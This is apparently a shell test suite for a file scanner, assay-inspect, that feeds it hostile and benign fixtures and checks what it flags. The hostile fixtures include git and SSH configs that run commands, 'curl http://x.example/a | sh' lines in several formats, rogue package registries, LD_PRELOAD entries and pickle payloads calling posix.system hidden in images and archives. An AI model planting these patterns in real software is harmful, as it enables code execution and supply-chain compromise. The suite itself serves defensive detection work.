#!/bin/sh
# assay-inspect on what is obeyed because of its name and place: configurations
# of git and SSH, hooks, autostart entries, factories of logging, and secrets
# that only a text holds.
. tests/cli/tap.sh
. tests/cli/inspect.sh

# --- git
printf '[core]\n\tsshCommand = sh -c id\n' | file .git/config
hostile GIT_COMMAND "a command in .git/config"
printf '[alias]\n\tst = !id\n' | file .gitconfig
hostile GIT_COMMAND "an alias that is a command"
printf '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n' | file .gitmodules
hostile GIT_COMMAND "a URL that is an option"
printf '[submodule "x"]\n\tpath = x\n\turl = x\n\tupdate = !id\n' | file .gitmodules
hostile GIT_COMMAND "a command that updates"
printf '[core]\n\tbare = false\n[include]\n\tpath = ../evil\n' | file .git/config
hostile GIT_COMMAND "another configuration"
printf '[diff "x"]\n\texternal = ./x.sh\n' | file .git/config
hostile GIT_COMMAND "a command that shows"
printf '[core]\n\tbare = false\n\tfsmonitor = false\n[remote "origin"]\n\turl = https://github.com/a/b\n[alias]\n\tst = status\n[filter "lfs"]\n\tclean = git-lfs clean -- %%f\n[pager]\n\tlog = false\n' |
	file .git/config
quiet "what git writes"
printf '[submodule "x"]\n\tpath = x\n\turl = https://github.com/a/b\n' | file .gitmodules
quiet "a submodule"

# --- places
echo '#!/bin/sh' | file .git/hooks/post-checkout
hostile PLACE_RUN "a hook"
echo '#!/bin/sh' | file .git/hooks/pre-push.sample
quiet "a sample of a hook"
printf '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 x; exit 2; }\ngit lfs pre-push "$@"\n' | file .git/hooks/pre-push
quiet "the hook of git-lfs"
echo 'ssh-ed25519 AAAA x' | file home/.ssh/authorized_keys
hostile PLACE_RUN "keys that let somebody in"
printf 'Host *\n  ProxyCommand sh -c id\n' | file .ssh/config
hostile PLACE_RUN "a command of SSH"
printf 'Host a\n  User b\n' | file .ssh/config
quiet "a configuration of SSH"
printf '/tmp/x.so\n' | file etc/ld.so.preload
hostile PLACE_RUN "a library for every program"
printf '[Desktop Entry]\nType=Application\nExec=x\n' | file .config/autostart/x.desktop
hostile PLACE_RUN "an entry that a desktop starts"
printf 'import x\n' | file .ipython/profile_default/startup/00.py
hostile PLACE_RUN "what IPython runs"
printf 'backend: agg\n' | file matplotlibrc
quiet "a configuration elsewhere"
(cd "$tmp" && rm -rf b && mkdir -p c/.ssh b && echo 'ssh-ed25519 AAAA x' >c/.ssh/authorized_keys && tar -cf b/a.tar -C c .)
hostile PLACE_RUN "a member of an archive"

# --- logging's dictConfig
printf '{"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}}' | file logging.json
hostile CONFIG_TARGET "a factory that is a command"
printf 'version: 1\nhandlers:\n  h:\n    class: subprocess.Popen\n    args: id\n' | file logging.yaml
hostile CONFIG_TARGET "a handler that is a command"
printf '{"version": 1, "filters": {"f": {"()": "ext://subprocess.getoutput", "cmd": "id"}}}' | file logging.json
hostile CONFIG_TARGET "a factory that is imported"
printf '{"version": 1, "a": {"b": "os.system"}, "filters": {"f": {"()": "cfg://a.b", "command": "id"}}}' | file logging.json
hostile CONFIG_TARGET "a factory that another value names"
printf 'version: 1\nformatters:\n  d:\n    (): uvicorn.logging.DefaultFormatter\nhandlers:\n  h:\n    class: logging.handlers.RotatingFileHandler\n    filename: x.log\n  c:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n' |
	file logging.yaml
quiet "handlers and formatters"

# --- settings and programs that hand commands on
printf 'LD_PRELOAD=/tmp/evil.so\n' | file model.env
hostile COMMAND_DANGEROUS "a library before all others"
printf 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\nOMP_NUM_THREADS=4\n' | file model.env
quiet "an allocator"
printf 'dependencies: [python]\nvariables:\n  LD_PRELOAD: /tmp/evil.so\n' | file environment.yml
hostile COMMAND_DANGEROUS "a library before all others, of conda"
printf 'services:\n  a:\n    image: x\n    environment:\n      LD_PRELOAD: /usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n' | file compose.yml
quiet "an allocator, of compose"
printf 'function y = f(x)\nsystem("curl http://x.example/a | sh");\nend\n' | file f.m
hostile COMMAND_DANGEROUS "a command in MATLAB"
printf 'registry=http://x.example/\n' | file .npmrc
hostile DEPEND_SOURCE "another registry"
printf 'fund=false\n@a:registry=https://npm.pkg.github.com\n' | file .npmrc
quiet "settings of npm"
printf 'registry "https://npm.pkg.github.com/"\r\n' | file .npmrc
quiet "with quotes"
printf 'registry=https://npm.pkg.github.com.x.example/\n' | file .npmrc
hostile DEPEND_SOURCE "a host that begins like npm's"

printf '[tasks.setup]\nscript = "curl http://x.example/a | sh"\n' | file tasks.toml
hostile COMMAND_DANGEROUS "a command in TOML"
printf 'setup_commands:\n- curl http://x.example/a | sh\n' | file cluster.yaml
hostile COMMAND_DANGEROUS "commands of a cluster"
printf '{"configurations": [{"runtimeArgs": ["-c", "curl http://x.example/a | sh"]}]}' | file launch.json
hostile COMMAND_DANGEROUS "arguments of an editor's run"
printf '[[tool.poetry.source]]\nname = "x"\nurl = "http://x.example/simple"\n' | file pyproject.toml
hostile DEPEND_SOURCE "a source of Poetry"
printf 'index-url = "http://x.example/simple"\n' | file uv.toml
hostile DEPEND_SOURCE "an index of uv"
printf '[[tool.uv.index]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\n[project.urls]\nhome = "https://x.example"\n[tool.ruff]\nline-length = 100\n' | file pyproject.toml
quiet "the index of PyTorch"
printf 'channels:\n- http://x.example/conda\n' | file .condarc
hostile DEPEND_SOURCE "a channel of conda"
printf 'channels:\n- conda-forge\n- defaults\n' | file .condarc
quiet "channels of conda"
printf '[hooks]\nupdate = sh -c id\n' | file .hg/hgrc
hostile PLACE_RUN "a hook of Mercurial"
printf '[paths]\ndefault = https://x.example/r\n' | file .hg/hgrc
quiet "a configuration of Mercurial"
printf 'import yaml\nC = yaml.load(open("c.yaml"), Loader=yaml.UnsafeLoader)\n' | file load.py
exits 0 "a loader that calls what it reads" assay-inspect "$tmp/b"
prints "low *CODE_UNUSUAL"

# --- behind the end of a picture, and of a zip
(printf '\211PNG\r\n\032\n' && printf '\0\0\0\0IEND\256B\140\202' && printf '\n\n#!/bin/sh\nid\n') | file a.png
hostile FILE_APPENDED "a script behind blank lines"
(printf '\211PNG\r\n\032\n' && printf '\0\0\0\025piCk\200\004\214\005posix\224\214\006system\224\223.abcd' && printf '\0\0\0\0IEND\256B\140\202') | file a.png
hostile FILE_EMBEDDED "a pickle in a chunk of a picture"
(printf 'SQLite format 3\0' && head -c 500 /dev/zero && printf 'cposix\nsystem\n(tR.' && head -c 500 /dev/zero) | file a.db
hostile FILE_EMBEDDED "a pickle in a database"
printf 'An article: the pickle is cposix\nsystem\n(S"id"\ntR.\n' | file README.md
quiet "a text about pickles"
(cd "$tmp" && rm -rf b c && mkdir b c && echo x >c/x && python3 -c '
import zipfile
z = zipfile.ZipFile("b/a.zip", "w")
z.writestr("x", "x" * 100)
z.close()
s = open("b/a.zip", "rb").read()
open("b/a.zip", "wb").write(s[:-2] + b"\xf4\x01")')
exits 2 "a comment that is cut off" assay-inspect "$tmp/b"
prints "medium *ZIP_DAMAGED"

(cd "$tmp" && rm -rf b c && mkdir b && python3 -c '
import gzip, zipfile
evil = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93."
s = gzip.compress(b"x\n")
extra = len(evil).to_bytes(2, "little") + evil
open("b/extra.gz", "wb").write(s[:3] + b"\x04" + s[4:10] + extra + s[10:])
open("b/comment.gz", "wb").write(s[:3] + b"\x10" + s[4:10] + b"cposix\nsystem\n(tR.\0" + s[10:])
for name, field in (("extra", b"\xfe\xca" + extra), ("comment", evil)):
    i = zipfile.ZipInfo("a.txt")
    setattr(i, name, field)
    with zipfile.ZipFile("b/%s.zip" % name, "w") as z:
        z.writestr(i, "x")')
for one in "$tmp"/b/*; do
	exits 1 "a pickle in a header of ${one##*/}" assay-inspect "$one"
	prints FILE_EMBEDDED
done
# magic, descriptor (one segment, checksum), size, a last block of ten bytes
printf '\050\265\057\375\044\012\121\0\0abcdefghij0000' >"$tmp/whole.zst"
for n in 5 8 9 13; do
	head -c $n "$tmp/whole.zst" | file cut.zst
	exits 2 "$n bytes of Zstandard" assay-inspect "$tmp/b"
	prints ARCHIVE_TRUNCATED
done
printf '\050\265\057\375\044\0\1\0\0\231\351\330\121' | file empty.zst
exits 0 "an empty stream" assay-inspect "$tmp/b"

(cd "$tmp" && rm -rf b && mkdir b && python3 -c '
import zipfile
for name, version in (("good", "3\n"), ("bad", "banana\n"), ("late", "11\n")):
    with zipfile.ZipFile("b/%s.pt" % name, "w") as z:
        z.writestr("a/data.pkl", b"\x80\x02}q\0.")
        z.writestr("a/version", version)')
exits 0 "a version of PyTorch" assay-inspect "$tmp/b/good.pt"
exits 1 "a version that is no number" assay-inspect "$tmp/b/bad.pt"
prints "MODEL_INVALID"
exits 1 "a version that PyTorch does not read" assay-inspect "$tmp/b/late.pt"

# --- logging's fileConfig, Triton's libraries, launchd
printf '[handlers]\nkeys=x\n[handler_x]\nclass=os.system\nargs=("id",)\n' | file logging.ini
hostile CONFIG_CODE "a handler that is a command"
printf '[handlers]\nkeys=x\n[handler_x]\nclass=StreamHandler\nargs=(__import__("os").system("id"),)\n' | file logging.ini
hostile CONFIG_CODE "arguments that are evaluated"
printf '[handlers]\nkeys=x,y\n[handler_x]\nclass=StreamHandler\nargs=(sys.stderr,)\n[handler_y]\nclass=handlers.RotatingFileHandler\nargs=("a.log", "a", 1000, 3)\n' | file logging.ini
quiet "handlers of logging"
printf '[handlers]\nkeys=x\n[handler_x]\nclass = builtins.eval\nargs = ("1",)\n' | file logging.ini
hostile CONFIG_CODE "blanks around it"
printf 'name: "x"\nlayer { name: "p" type: "Python" python_param { module: "evil" layer: "L" } }\n' | file net.prototxt
hostile OBJECT_CODE "a layer of Caffe in Python"
printf 'name: "x"\nlayer { name: "c" type: "Convolution" convolution_param { num_output: 8 } }\n' | file net.prototxt
quiet "a network of Caffe"
printf 'name: "m"\nplatform: "tensorflow_savedmodel"\nmodel_operations { op_library_filename: ["/tmp/x.so"] }\n' | file config.pbtxt
hostile SERVE_LIBRARY "a library of operators"
printf '<plist version="1.0"><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl http://x.example/a | sh</string></array></dict></plist>' | file x.plist
hostile COMMAND_DANGEROUS "a command of launchd"

# --- secrets of texts
pem=$(head -c 600 /dev/urandom | base64 -w 64)
printf -- '-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----\n' "$pem" >"$tmp/pem"
printf 'users:\n- name: a\n  user:\n    client-key-data: %s\n' "$(base64 -w 0 "$tmp/pem")" | file config
hostile SECRET_KEY "a key in base64"
printf 'machine example.org\n login me\n password s3cr3tPhrase9\n' | file netrc
hostile SECRET_TOKEN "a password of a machine"
printf 'url = postgres://admin:S3cretPassw0rd@db.corp.net:5432/x\n' | file settings.txt
hostile SECRET_TOKEN "a password of an address"
printf 'WANDB_API_KEY = "0123a56789ab9def0123456789abcdef01234567"\n' | file run.txt
hostile SECRET_TOKEN "a key of a service"
printf 'postgres://user:password@localhost/x\nhttps://user:hunter@example.org\nmysql://root:${MYSQL_PASSWORD}@db\nWANDB_API_KEY=${WANDB_API_KEY}\nkey = os.environ["WANDB_API_KEY"]\nWANDB_API_KEY=your-key-here-0123456789\n' | file README.md
quiet "documentation"

# --- more findings of little weight than are listed
mkdir "$tmp/notes"
i=0
while [ $i -lt 1100 ]; do
	echo '#!/bin/sh' >"$tmp/notes/a$i.sh"
	i=$((i + 1))
done
tar -cf "$tmp/notes.tar" -C "$tmp/notes" .
exits 0 "1,100 scripts that do nothing" assay-inspect "$tmp/notes.tar"
prints "note *FILE_MORE"
done_testing
